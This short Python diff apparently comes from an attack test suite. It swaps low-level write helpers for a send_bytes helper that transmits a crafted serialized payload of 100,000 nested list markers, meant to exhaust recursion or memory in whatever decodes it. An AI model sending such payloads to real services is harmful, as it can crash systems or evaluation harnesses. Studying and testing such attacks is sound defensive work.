@@ -6,7 +6,7 @@ import os
 import pickle
 import sys
 
-from attack import attempted, descriptor, raw_write
+from attack import attempted, send_bytes
 
 
 def algorithm(question):
@@ -21,7 +21,7 @@ def algorithm(question):
     except OSError:
         pass
     body = b"t\x02\x00\x00\x00s\x02\x00\x00\x00ok" + b"l\x01\x00\x00\x00" * 100_000
-    raw_write(descriptor, len(body).to_bytes(4, "little") + body)
+    send_bytes(body)
     sys.setrecursionlimit(10**6)
     value = []
     for _ in range(depth):
